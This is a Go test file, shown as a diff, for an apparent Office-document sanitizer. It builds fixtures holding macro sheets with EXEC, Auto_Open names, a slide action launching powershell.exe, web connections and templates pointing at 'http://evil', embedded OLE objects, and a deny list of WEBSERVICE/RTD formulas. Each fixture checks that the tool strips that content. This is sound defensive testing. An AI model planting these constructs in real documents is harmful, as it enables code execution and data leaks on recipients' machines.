+	{name: "macro sheet", rule: "ooxml.macro-sheet", action: sanitize.Replaced, gone: []string{"EXEC", "macrosheet"}, stays: []string{`name="M"`, `state="veryHidden"`, "<sheetData/>"},
+		pkg: func() *pkg {
+			p := xlsx("", "", "")
+			p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<sheets><sheet name="M" sheetId="2" state="veryHidden" r:id="rId2"/>`, 1)
+			p.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", `<m>EXEC("x")</m>`)
+			return p.rel(p.main, "rId2", relM+"xlMacrosheet", "macrosheets/sheet1.xml")
+		}},
+	{name: "dialog sheet", rule: "ooxml.dialog-sheet", action: sanitize.Replaced, gone: []string{"dialogsheet"}, stays: []string{`name="M"`, "<sheetData/>"},
+		pkg: func() *pkg {
+			p := xlsx("", "", "")
+			p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<sheets><sheet name="M" sheetId="2" r:id="rId2"/>`, 1)
+			p.add("xl/dialogsheets/sheet1.xml", typeSheet+"dialogsheet+xml", `<dialogsheet `+nsS+`/>`)
+			return p.rel(p.main, "rId2", relO+"dialogsheet", "dialogsheets/sheet1.xml")
+		}},
+	{name: "auto-run name", rule: "ooxml.auto-run", action: sanitize.Removed, gone: []string{"Auto_Open", "definedNames"},
+		pkg: func() *pkg {
+			return xlsx("", "", `<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">表!$A$1</definedName></definedNames>`)
+		}},
+	{name: "macro name", rule: "ooxml.macro-name", action: sanitize.Removed, gone: []string{"vbProcedure", `"M"`}, stays: []string{"Print_Area"},
+		pkg: func() *pkg {
+			return xlsx("", "", `<definedNames><definedName name="M" vbProcedure="1">0</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">表!$A$1</definedName></definedNames>`)
+		}},
+	{name: "connection", rule: "ooxml.connection", action: sanitize.Removed, gone: []string{"evil", "connection"},
+		pkg: func() *pkg {
+			p := xlsx("", `<tableParts count="1"><tablePart r:id="rId1"/></tableParts>`, "")
+			p.add("xl/connections.xml", typeSheet+"connections+xml", `<connections `+nsS+`><connection id="1"><webPr url="http://evil"/></connection></connections>`)
+			p.add("xl/tables/table1.xml", typeSheet+"table+xml", `<table `+nsS+` id="1" name="T" displayName="T" ref="A1:A2" tableType="queryTable" connectionId="1"><tableColumns count="1"><tableColumn id="1" name="a" queryTableFieldId="1"/></tableColumns></table>`)
+			p.add("xl/queryTables/queryTable1.xml", typeSheet+"queryTable+xml", `<queryTable `+nsS+` connectionId="1"/>`)
+			return p.rel(p.main, "rId5", relO+"connections", "connections.xml").rel("xl/worksheets/sheet1.xml", "rId1", relO+"table", "../tables/table1.xml").rel("xl/tables/table1.xml", "rId1", relO+"queryTable", "../queryTables/queryTable1.xml")
+		}},
+	{name: "pivot of elsewhere", rule: "ooxml.pivot", action: sanitize.Neutralised, gone: []string{"pivotCache"},
+		pkg: func() *pkg {
+			p := xlsx("", "", `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`)
+			p.add("xl/pivotCache/pivotCacheDefinition1.xml", typeSheet+"pivotCacheDefinition+xml", `<pivotCacheDefinition `+nsS+`><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`)
+			p.add("xl/pivotTables/pivotTable1.xml", typeSheet+"pivotTable+xml", `<pivotTableDefinition `+nsS+` name="p" cacheId="1"/>`)
+			return p.rel(p.main, "rId5", relO+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml").rel("xl/worksheets/sheet1.xml", "rId1", relO+"pivotTable", "../pivotTables/pivotTable1.xml").rel("xl/pivotTables/pivotTable1.xml", "rId1", relO+"pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
+		}},
+	{name: "refresh on load", rule: "ooxml.refresh-on-load", action: sanitize.Neutralised, gone: []string{"refreshOnLoad"}, stays: []string{"pivotCacheDefinition"},
+		pkg: func() *pkg {
+			p := xlsx("", "", `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`)
+			p.add("xl/pivotCache/pivotCacheDefinition1.xml", typeSheet+"pivotCacheDefinition+xml", `<pivotCacheDefinition `+nsS+` refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="表"/></cacheSource></pivotCacheDefinition>`)
+			return p.rel(p.main, "rId5", relO+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
+		}},
+	{name: "validation by another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"dataValidation", "[1]"},
+		pkg: func() *pkg {
+			return xlsx("", `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]S!$A$1:$A$3</formula1></dataValidation></dataValidations>`, "")
+		}},
+	{name: "validation list", stays: []string{`"はい,いいえ"`, "dataValidations"},
+		pkg: func() *pkg {
+			return xlsx("", `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>"はい,いいえ"</formula1></dataValidation></dataValidations>`, "")
+		}},
+	{name: "condition by another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"cfRule", "conditionalFormatting", "extLst"},
+		pkg: func() *pkg {
+			return xlsx("", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]S!$A$1&gt;0</formula></cfRule></conditionalFormatting><extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression"><xm:f>[1]S!A1</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`, "")
+		}},
+	{name: "control with a macro", rule: "ooxml.form-control", action: sanitize.Neutralised, gone: []string{"ctrlProp", "controls", "FmlaMacro", "Macro1", "AlternateContent"}, stays: []string{"押す", "legacyDrawing"},
+		pkg: func() *pkg {
+			p := xlsx("", `<legacyDrawing r:id="rId2"/><mc:AlternateContent><mc:Choice Requires="x14"><controls><mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1025" r:id="rId3" name="b"><controlPr macro="Macro1"/></control></mc:Choice></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>`, "")
+			p.add("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", `<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" fmlaMacro="Macro1"/>`)
+			p.add("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", `<xml `+nsV+` `+nsO+` `+nsX+`><v:shape id="b"><![if gte mso 9]><v:textbox><div><font>押す<br>る</font></div></v:textbox><![endif]><x:ClientData ObjectType="Button"><x:FmlaMacro>Macro1</x:FmlaMacro></x:ClientData></v:shape></xml>`)
+			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"vmlDrawing", "../drawings/vmlDrawing1.vml").rel("xl/worksheets/sheet1.xml", "rId3", relO+"ctrlProp", "../ctrlProps/ctrlProp1.xml")
+		}},
+	{name: "shape with a macro", rule: "ooxml.macro", action: sanitize.Removed, gone: []string{"Macro1"}, stays: []string{`<xdr:sp macro="" textlink="">`},
+		pkg: func() *pkg {
+			p := xlsx("", `<drawing r:id="rId2"/>`, "")
+			p.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr `+nsXD+`><xdr:sp macro="[0]!Macro1" textlink=""></xdr:sp></xdr:wsDr>`)
+			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"drawing", "../drawings/drawing1.xml")
+		}},
+	{name: "printer and chain are no news", gone: []string{"printerSettings", "calcChain"}, stays: []string{`<pageSetup paperSize="9"/>`},
+		pkg: func() *pkg {
+			p := xlsx("", `<pageSetup paperSize="9" r:id="rId2"/>`, "").add("xl/printerSettings/printerSettings1.bin", typeSheet+"printerSettings", "x").add("xl/calcChain.xml", typeSheet+"calcChain+xml", "<calcChain "+nsS+"/>")
+			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"printerSettings", "../printerSettings/printerSettings1.bin").rel(p.main, "rId5", relO+"calcChain", "calcChain.xml")
+		}},
+	{name: "rich value", rule: "ooxml.rich-value", action: sanitize.Replaced, gone: []string{"vm="}, stays: []string{"#VALUE!"},
+		pkg: func() *pkg { return xlsx(`<c r="A1" t="e" vm="1"><v>#VALUE!</v></c>`, "", "") }},
+	{name: "cell link to a file", rule: "ooxml.link", action: sanitize.Neutralised, gone: []string{"hyperlink"},
+		pkg: func() *pkg {
+			return xlsx("", `<hyperlinks><hyperlink ref="A1" r:id="rId2"/></hyperlinks>`, "").rel("xl/worksheets/sheet1.xml", "rId2", relO+"hyperlink", "external:other.xlsx")
+		}},
+	{name: "embedded object in a sheet", rule: "ooxml.ole", action: sanitize.Removed, gone: []string{"oleObject", "MARKER", "AlternateContent"},
+		pkg: func() *pkg {
+			p := xlsx("", `<oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1" r:id="rId2"/></mc:Choice></mc:AlternateContent></oleObjects>`, "")
+			return p.add("xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "\xD0\xCFMARKER").rel("xl/worksheets/sheet1.xml", "rId2", relO+"oleObject", "../embeddings/oleObject1.bin")
+		}},
+	{name: "chart of another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"[1]", "numRef", "strRef", "numCache"}, stays: []string{"<c:tx><c:v>売上</c:v></c:tx>", "<c:numLit><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>5</c:v></c:pt></c:numLit>", "<c:strLit>"},
+		pkg: func() *pkg {
+			p := xlsx("", `<drawing r:id="rId2"/>`, "")
+			p.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr `+nsXD+` `+nsR+` `+nsC+`><c:chart r:id="rId1"/></xdr:wsDr>`)
+			p.add("xl/charts/chart1.xml", typeDraw+"chart+xml", `<c:chartSpace `+nsC+`><c:ser><c:tx><c:strRef><c:f>[1]S!$A$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>売上</c:v></c:pt></c:strCache></c:strRef></c:tx><c:cat><c:strRef><c:f>[1]S!$A$2</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>四月</c:v></c:pt></c:strCache></c:strRef></c:cat><c:val><c:numRef><c:f>[1]S!$B$1</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:chartSpace>`)
+			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"drawing", "../drawings/drawing1.xml").rel("xl/drawings/drawing1.xml", "rId1", relO+"chart", "../charts/chart1.xml")
+		}},
+
+	{name: "action", rule: "ooxml.action", action: sanitize.Neutralised, gone: []string{"ppaction", "powershell", "hlink"},
+		pkg: func() *pkg {
+			return pptx(`<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>`).rel("ppt/slides/slide1.xml", "rId2", relO+"hyperlink", "external:powershell.exe")
+		}},
+	{name: "jump in the show", stays: []string{"ppaction://hlinkshowjump?jump=nextslide"},
+		pkg: func() *pkg {
+			return pptx(`<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr></p:nvSpPr></p:sp>`)
+		}},
+	{name: "frame becomes its picture", rule: "ooxml.ole", action: sanitize.Replaced, gone: []string{"oleObj", "graphicFrame", "MARKER", `id="0"`}, stays: []string{`<p:pic xmlns:q="urn:schemas-microsoft-com:vml"><p:nvPicPr><p:cNvPr id="4" name="obj"/>`, `r:embed="rId3"`},
+		pkg: func() *pkg {
+			p := pptx(`<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="obj"/></p:nvGraphicFramePr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v"><p:oleObj spid="_x" progId="Package" r:id="rId2"><p:embed/></p:oleObj></mc:Choice><mc:Fallback xmlns:q="urn:schemas-microsoft-com:vml"><p:oleObj progId="Package" r:id="rId2"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>`)
+			p.add("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "\xD0\xCFMARKER").add("ppt/media/image1.png", "image/png", pngBytes())
+			return p.rel("ppt/slides/slide1.xml", "rId2", relO+"oleObject", "../embeddings/oleObject1.bin").rel("ppt/slides/slide1.xml", "rId3", relO+"image", "../media/image1.png")
+		}},
+	{name: "media", rule: "ooxml.media", action: sanitize.Removed, gone: []string{"videoFile", "media1", "p14:media", "p:video", "timing", "extLst"}, stays: []string{`r:embed="rId3"`},
+		pkg: func() *pkg {
+			p := pptx(`<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="rId2"/><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" r:embed="rId4"/></p:ext></p:extLst></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic>`)
+			p.members["ppt/slides/slide1.xml"] = strings.Replace(p.members["ppt/slides/slide1.xml"], "</p:sld>", `<p:timing><p:tnLst><p:video><p:cMediaNode/></p:video></p:tnLst></p:timing></p:sld>`, 1)
+			p.add("ppt/media/media1.mp4", "video/mp4", "x").add("ppt/media/image1.png", "image/png", pngBytes())
+			return p.rel("ppt/slides/slide1.xml", "rId2", relO+"video", "../media/media1.mp4").rel("ppt/slides/slide1.xml", "rId4", "http://schemas.microsoft.com/office/2007/relationships/media", "../media/media1.mp4").rel("ppt/slides/slide1.xml", "rId3", relO+"image", "../media/image1.png")
+		}},
+	{name: "verb", rule: "ooxml.timing", action: sanitize.Removed, gone: []string{"verb", "timing"},
+		pkg: func() *pkg {
+			p := pptx("")
+			p.members["ppt/slides/slide1.xml"] = strings.Replace(p.members["ppt/slides/slide1.xml"], "</p:sld>", `<p:timing><p:tnLst><p:cmd type="verb" cmd="0"/></p:tnLst></p:timing></p:sld>`, 1)
+			return p
+		}},
+	{name: "ink", rule: "ooxml.ink", action: sanitize.Removed, gone: []string{"contentPart"},
+		pkg: func() *pkg {
+			return pptx(`<p:contentPart r:id="rId9"/>`).rel("ppt/slides/slide1.xml", "rId9", relO+"customXml", "../ink/ink1.xml")
+		}},
+	{name: "model", rule: "ooxml.active-xml", action: sanitize.Removed, gone: []string{"model3d", "mc:Choice Requires=\"am3d\""}, stays: []string{"代わり", "mc:Fallback"},
+		pkg: func() *pkg {
+			return pptx(`<mc:AlternateContent><mc:Choice xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d" Requires="am3d"><p:sp><am3d:model3d r:embed="rId9"/></p:sp></mc:Choice><mc:Fallback><p:sp><p:txBody><a:p><a:r><a:t>代わり</a:t></a:r></a:p></p:txBody></p:sp></mc:Fallback></mc:AlternateContent>`)
+		}},
+	{name: "chart with its workbook", stays: []string{"externalData", "/ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"},
+		pkg: func() *pkg { return chartDeck(xlsx(`<c r="A1"><v>1</v></c>`, "", "")) }},
+	{name: "chart with a workbook that runs", rule: "ooxml.package", action: sanitize.Replaced, stays: []string{"externalData"},
+		pkg: func() *pkg { return chartDeck(xlsx(`<c r="A1"><f>EXEC("x")</f><v>1</v></c>`, "", "")) }},
+	{name: "package", rule: "ooxml.package", action: sanitize.Removed, gone: []string{"embeddings"},
+		pkg: func() *pkg {
+			p := docx("").add("word/embeddings/a.xlsx", typeSheet+"sheet", "PK")
+			return p.rel(p.main, "rId5", relO+"package", "embeddings/a.xlsx")
+		}},
+	{name: "strict", stays: []string{"purl.oclc.org", "本文"}, rule: "ooxml.template", action: sanitize.Removed, gone: []string{"evil", "attachedTemplate"},
+		pkg: func() *pkg {
+			const r = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+			p := &pkg{main: "word/document.xml", members: map[string]string{}, types: map[string]string{}, rels: map[string]string{}}
+			p.add(p.main, typeWord+"document.main+xml", `<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`)
+			p.add("word/settings.xml", typeWord+"settings+xml", `<q:settings xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main" xmlns:i="`+r+`"><q:attachedTemplate i:id="rId1"/></q:settings>`)
+			return p.rel("", "rId1", r+"/officeDocument", p.main).rel(p.main, "rId2", r+"/settings", "settings.xml").rel("word/settings.xml", "rId1", r+"/attachedTemplate", "external:http://evil/")
+		}},
+}
+
+func chartDeck(book *pkg) *pkg {
+	p := pptx(`<p:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart ` + nsC + ` r:id="rId2"/></a:graphicData></a:graphic></p:graphicFrame>`)
+	p.add("ppt/charts/chart1.xml", typeDraw+"chart+xml", `<c:chartSpace `+nsC+` `+nsR+`><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>`)
+	p.add("ppt/embeddings/a.xlsx", typeSheet+"sheet", string(book.bytes(&testing.T{})))
+	return p.rel("ppt/slides/slide1.xml", "rId2", relO+"chart", "../charts/chart1.xml").rel("ppt/charts/chart1.xml", "rId1", relO+"package", "../embeddings/a.xlsx")
+}
+
+func TestEveryFindingHasItsCase(t *testing.T) {
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			out, res, found, err := treat(c.pkg().bytes(t))
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := sanitize.Clean
+			if c.rule != "" {
+				want = sanitize.Disarmed
+				if !slices.ContainsFunc(found, func(f sanitize.Finding) bool { return f.Rule == c.rule && f.Action == c.action }) {
+					t.Errorf("no finding %s (%s) in %v", c.rule, c.action, found)
+				}
+			}
+			if res.Outcome != want {
+				t.Errorf("outcome %s, want %s: %v", res.Outcome, want, found)
+			}
+			all := ""
+			for name, content := range unpack(t, out) {
+				all += name + "\n" + content + "\n"
+			}
+			for _, g := range c.gone {
+				if strings.Contains(all, g) {
+					t.Errorf("%q is still there:\n%s", g, all)
+				}
+			}
+			for _, s := range c.stays {
+				if !strings.Contains(all, s) {
+					t.Errorf("%q is lost:\n%s", s, all)
+				}
+			}
+			checkPackage(t, c.name, out)
+		})
+	}
+}
+
+func TestSecondRunFindsNothingAndChangesNothing(t *testing.T) {
+	for _, c := range cases {
+		out, _, _, err := treat(c.pkg().bytes(t))
+		if err != nil {
+			t.Fatal(err)
+		}
+		again, res, found, err := treat(out)
+		if err != nil {
+			t.Errorf("%s: %v", c.name, err)
+			continue
+		}
+		if res.Outcome != sanitize.Clean {
+			t.Errorf("%s: %s, %v", c.name, res.Outcome, found)
+		}
+		if !bytes.Equal(out, again) {
+			a, b := unpack(t, out), unpack(t, again)
+			for n := range a {
+				if a[n] != b[n] {
+					t.Errorf("%s: %s changed:\n%s\n%s", c.name, n, a[n], b[n])
+				}
+			}
+			t.Errorf("%s: the second output differs", c.name)
+		}
+	}
+}
+
+func TestKindsLeaveAsTheirMacroFreeSiblings(t *testing.T) {
+	for typ, m := range mainParts {
+		var p *pkg
+		switch m.host {
+		case hostWord:
+			p = docx("")
+		case hostSheet:
+			p = xlsx("", "", "")
+		default:
+			p = pptx("")
+		}
+		p.types[p.main] = strings.ReplaceAll(typ, "macroenabled", "macroEnabled")
+		_, res, _, err := treat(p.bytes(t), func(o *sanitize.Options) {})
+		if err != nil || res.Kind != m.out || res.Mode != sanitize.Rebuild {
+			t.Errorf("%s: left as %s, %v", m.in, res.Kind, err)
+		}
+	}
+	for _, typ := range []string{"application/vnd.ms-excel.addin.macroEnabled.main+xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "application/xml"} {
+		p := xlsx("", "", "")
+		p.types[p.main] = typ
+		if _, _, _, err := treat(p.bytes(t)); !errors.Is(err, sanitize.ErrUnsupported) {
+			t.Errorf("%s: %v", typ, err)
+		}
+	}
+}
+
+func TestHostileXMLIsRefused(t *testing.T) {
+	body := func(s string) string { return wordXML(s) }
+	for name, c := range map[string]struct {
+		xml  string
+		want error
+	}{
+		"DOCTYPE":              {`<!DOCTYPE w [<!ENTITY a "b">]>` + body("")[38:], sanitize.ErrMalformed},
+		"entity":               {body("<w:t>&a;</w:t>"), sanitize.ErrMalformed},
+		"character":            {body("<w:t>&#0;</w:t>"), sanitize.ErrMalformed},
+		"surrogate":            {body("<w:t>&#xD800;</w:t>"), sanitize.ErrMalformed},
+		"control":              {body("<w:t>\x01</w:t>"), sanitize.ErrMalformed},
+		"NUL":                  {body("<w:t>\x00</w:t>"), sanitize.ErrMalformed},
+		"no UTF-8":             {body("<w:t>\xff</w:t>"), sanitize.ErrMalformed},
+		"noncharacter":         {body("<w:t>\uffff</w:t>"), sanitize.ErrMalformed},
+		"crossed tags":         {body("<w:p><w:r></w:p></w:r>"), sanitize.ErrMalformed},
+		"no end":               {body("<w:p>"), sanitize.ErrMalformed},
+		"cut":                  {body("")[:200], sanitize.ErrMalformed},
+		"two roots":            {body("") + "<a/>", sanitize.ErrMalformed},
+		"text behind":          {body("") + "x", sanitize.ErrMalformed},
+		"attribute twice":      {body(`<w:p w:a="1" w:a="2"/>`), sanitize.ErrMalformed},
+		"attribute twice ns":   {body(`<w:p xmlns:v2="http://schemas.openxmlformats.org/wordprocessingml/2006/main" w:a="1" v2:a="2"/>`), sanitize.ErrMalformed},
+		"no quotes":            {body(`<w:p w:a=1/>`), sanitize.ErrMalformed},
+		"no space":             {body(`<w:p w:a="1"w:b="2"/>`), sanitize.ErrMalformed},
+		"< in a value":         {body(`<w:p w:a="<"/>`), sanitize.ErrMalformed},
+		"prefix undeclared":    {body(`<q:p/>`), sanitize.ErrMalformed},
+		"attribute undeclared": {body(`<w:p q:a="1"/>`), sanitize.ErrMalformed},
+		"two colons":           {body(`<w:a:p/>`), sanitize.ErrMalformed},
+		"]]>":                  {body(`<w:t>]]></w:t>`), sanitize.ErrMalformed},
+		"comment":              {body(`<!-- a -- b -->`), sanitize.ErrMalformed},
+		"late declaration":     {body(`<?xml version="1.0"?>`), sanitize.ErrMalformed},
+		"conditional section":  {body(`<![if gte mso 9]><![endif]>`), sanitize.ErrMalformed},
+		"version":              {`<?xml version="1.1"?>` + body("")[38:], sanitize.ErrMalformed},
+		"encoding":             {`<?xml version="1.0" encoding="UTF-7"?>` + body("")[38:], sanitize.ErrMalformed},
+		"empty":                {``, sanitize.ErrMalformed},
+		"no element":           {`<?xml version="1.0"?>`, sanitize.ErrMalformed},
+		"deep":                 {body(strings.Repeat("<w:p>", 300) + strings.Repeat("</w:p>", 300)), sanitize.ErrLimit},
+		"large tag":            {body(`<w:p w:a="` + strings.Repeat("x", maxTag+100) + `"/>`), sanitize.ErrLimit},
+		"other root":           {`<w:styles ` + nsW + `/>`, sanitize.ErrMalformed},
+		"root of nobody":       {`<a/>`, sanitize.ErrMalformed},
+	} {
+		p := docx("")
+		p.members[p.main] = c.xml
+		if _, _, _, err := treat(p.bytes(t)); !errors.Is(err, c.want) {
+			t.Errorf("%s: got %v, want %v", name, err, c.want)
+		}
+	}
+}
+
+func TestUTF16PartsAreTranscoded(t *testing.T) {
+	for _, big := range []bool{false, true} {
+		p := docx("<w:p><w:r><w:t>𠮷野</w:t></w:r></w:p>")
+		src := strings.Replace(p.members[p.main], "UTF-8", "UTF-16", 1)
+		p.members[p.main] = utf16Bytes(src, big)
+		out, _, _, err := treat(p.bytes(t))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := unpack(t, out)["word/document.xml"]; !strings.Contains(got, "<w:t>𠮷野</w:t>") {
+			t.Errorf("text lost: %s", got)
+		}
+	}
+	p := docx("")
+	p.members[p.main] = utf16Bytes(p.members[p.main], false) + "\x00"
+	if _, _, _, err := treat(p.bytes(t)); !errors.Is(err, sanitize.ErrMalformed) {
+		t.Errorf("half a character: %v", err)
+	}
+}
+
+func utf16Bytes(s string, big bool) string {
+	var b bytes.Buffer
+	put := func(c uint16) {
+		if big {
+			b.Write([]byte{byte(c >> 8), byte(c)})
+		} else {
+			b.Write([]byte{byte(c), byte(c >> 8)})
+		}
+	}
+	put(0xFEFF)
+	for _, r := range s {
+		if r >= 0x10000 {
+			r -= 0x10000
+			put(uint16(0xD800 + r>>10))
+			put(uint16(0xDC00 + r&0x3FF))
+			continue
+		}
+		put(uint16(r))
+	}
+	return b.String()
+}
+
+func TestPackagesThatAreReadInTwoWaysAreRefused(t *testing.T) {
+	twice := func(name string) []byte {
+		var b bytes.Buffer
+		z := zip.NewWriter(&b)
+		for _, n := range []string{"[Content_Types].xml", "word/document.xml", name} {
+			w, err := z.Create(n)
+			if err != nil {
+				t.Fatal(err)
+			}
+			io.WriteString(w, "<a/>")
+		}
+		if err := z.Close(); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	for _, n := range []string{"word/document.xml", "WORD/document.xml", `word\document.xml`, "word//document.xml"} {
+		if _, _, _, err := treat(twice(n)); !errors.Is(err, sanitize.ErrAmbiguous) {
+			t.Errorf("%s: %v", n, err)
+		}
+	}
+	p := docx("").rel("", "rId7", relO+"officeDocument", "word/second.xml").add("word/second.xml", typeWord+"document.main+xml", wordXML(""))
+	if _, _, _, err := treat(p.bytes(t)); !errors.Is(err, sanitize.ErrAmbiguous) {
+		t.Errorf("two main parts: %v", err)
+	}
+	p = docx("").rel("word/document.xml", "rId7", relO+"styles", "a.xml").rel("word/document.xml", "rId7", relO+"styles", "b.xml")
+	if _, _, _, err := treat(p.bytes(t)); !errors.Is(err, sanitize.ErrAmbiguous) {
+		t.Errorf("one id twice: %v", err)
+	}
+}
+
+func TestBudgetsHold(t *testing.T) {
+	big := docx(strings.Repeat("<w:p/>", 200000)).bytes(t)
+	small := func(o *sanitize.Options) { o.Limits.Expanded = 100000 }
+	if _, _, _, err := treat(big, small); !errors.Is(err, sanitize.ErrLimit) {
+		t.Errorf("expanded: %v", err)
+	}
+	if _, _, _, err := treat(big, func(o *sanitize.Options) { o.Limits.RatioFloor, o.Limits.Ratio = 1000, 2 }); !errors.Is(err, sanitize.ErrLimit) {
+		t.Errorf("ratio: %v", err)
+	}
+	if _, _, _, err := treat(big, func(o *sanitize.Options) { o.Limits.Entries = 2 }); !errors.Is(err, sanitize.ErrLimit) {
+		t.Errorf("entries: %v", err)
+	}
+	if _, _, _, err := treat(big, func(o *sanitize.Options) { o.Limits.OutputBytes = 200 }); !errors.Is(err, sanitize.ErrLimit) {
+		t.Errorf("output: %v", err)
+	}
+	ctx, cancel := context.WithCancel(t.Context())
+	cancel()
+	s := newSession(len(big))
+	if _, err := (Sanitizer{}).Sanitize(ctx, s, sanitize.Object{ReaderAt: bytes.NewReader(big), Size: int64(len(big))}, io.Discard); !errors.Is(err, context.Canceled) {
+		t.Errorf("cancelled: %v", err)
+	}
+}
+
+func TestWithheldPicturesLeaveAPlaceholder(t *testing.T) {
+	p := docx(fmt.Sprintf(blip, `r:embed="rId5"`)).add("word/media/image1.jpg", "image/jpeg", jpegBytes())
+	p.rel(p.main, "rId5", relO+"image", "media/image1.jpg")
+	out, res, _, err := treat(p.bytes(t), func(o *sanitize.Options) { delete(o.Rules, sanitize.ClassImage) })
+	if err != nil || res.Outcome != sanitize.Disarmed {
+		t.Fatalf("%s, %v", res.Outcome, err)
+	}
+	if m := unpack(t, out); !strings.HasPrefix(m["word/media/image1.png"], "\x89PNG") {
+		t.Error("no placeholder")
+	}
+	checkPackage(t, "withheld", out)
+}
+
+func TestLinksGoWhenTheProfileSaysSo(t *testing.T) {
+	p := docx(`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>`)
+	p.rel(p.main, "rId5", relO+"hyperlink", "external:https://example.jp/")
+	out, res, _, err := treat(p.bytes(t), func(o *sanitize.Options) { o.URLs = sanitize.RemoveURLs })
+	if err != nil || res.Outcome != sanitize.Disarmed || bytes.Contains(out, []byte("example.jp")) {
+		t.Errorf("%s, %v", res.Outcome, err)
+	}
+	checkPackage(t, "links", out)
+}
+
+func TestFormulas(t *testing.T) {
+	for f, ok := range map[string]bool{
+		"": true, "1+2": true, "SUM(A1:B2)": true, "'売上 表'!A1": true, "表!A1": true, "_xlfn.XLOOKUP(A1,B:B,C:C)": true, "_xlfn._xlws.FILTER(A1:A9,B1:B9)": true,
+		`"a|b"&A1`: true, `IF(A1="[1]","x","y")`: true, "Table1[列]": true, "Table1[[#Totals],[Regular Hours]]": true, "SUBTOTAL(109,[Regular Hours])": true,
+		"{1,2;3,4}": true, "A1:INDEX(B:B,3)": true, "#REF!": true, `HYPERLINK("https://example.jp/"&A1,"x")`: true, `HYPERLINK("#表!A1")`: true, `HYPERLINK( "mailto:a@b" )`: true,
+		`INDIRECT("A"&1)`: true, "Table1['[x']]": true,
+
+		`WEBSERVICE("http://x")`: false, `_xlfn.WEBSERVICE("http://x")`: false, "webservice(A1)": false, `FILTERXML(A1,"//a")`: false, `_xlfn.IMAGE("http://x")`: false, `RTD("a",,"b")`: false,
